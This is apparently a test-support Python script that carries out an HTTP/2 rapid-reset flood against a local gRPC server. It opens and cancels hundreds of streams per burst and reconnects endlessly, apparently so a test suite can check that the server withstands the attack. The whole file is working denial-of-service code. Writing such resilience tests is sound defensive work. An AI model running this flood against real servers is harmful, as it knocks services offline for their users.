"""A rapid-reset flood, to be run as a program beside the tests (attacks G01).

    python -m support.reset_flood PORT METHOD

It opens and resets streams on one connection as fast as they are taken, says so in
a line once it is under way, and goes on until it is ended.
"""

from __future__ import annotations

import contextlib
import socket
import sys

from support.http2_frames import (
    CANCEL,
    END_HEADERS,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    grpc_headers,
)

UNDER_WAY = b"under way\n"
BURST = 200
BURSTS_BEFORE = 10
_STREAMS_MAX = 1_000_000


def flood(port: int, block: bytes) -> None:
    """Floods one connection until it ends or its stream numbers do."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for number, first in enumerate(range(1, _STREAMS_MAX, 2 * BURST)):
            connection.sendall(
                b"".join(
                    frame(HEADERS, END_HEADERS, stream, block)
                    + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in range(first, first + 2 * BURST, 2)
                )
            )
            with contextlib.suppress(BlockingIOError):
                connection.recv(65_536, socket.MSG_DONTWAIT)
            if number == BURSTS_BEFORE:
                sys.stdout.buffer.write(UNDER_WAY)
                sys.stdout.flush()


def main() -> None:
    """Floods connection after connection."""
    port, method = int(sys.argv[1]), sys.argv[2]
    block = grpc_headers(method, authorization="USER")
    while True:
        with contextlib.suppress(ConnectionError, TimeoutError):
            flood(port, block)


if __name__ == "__main__":
    main()
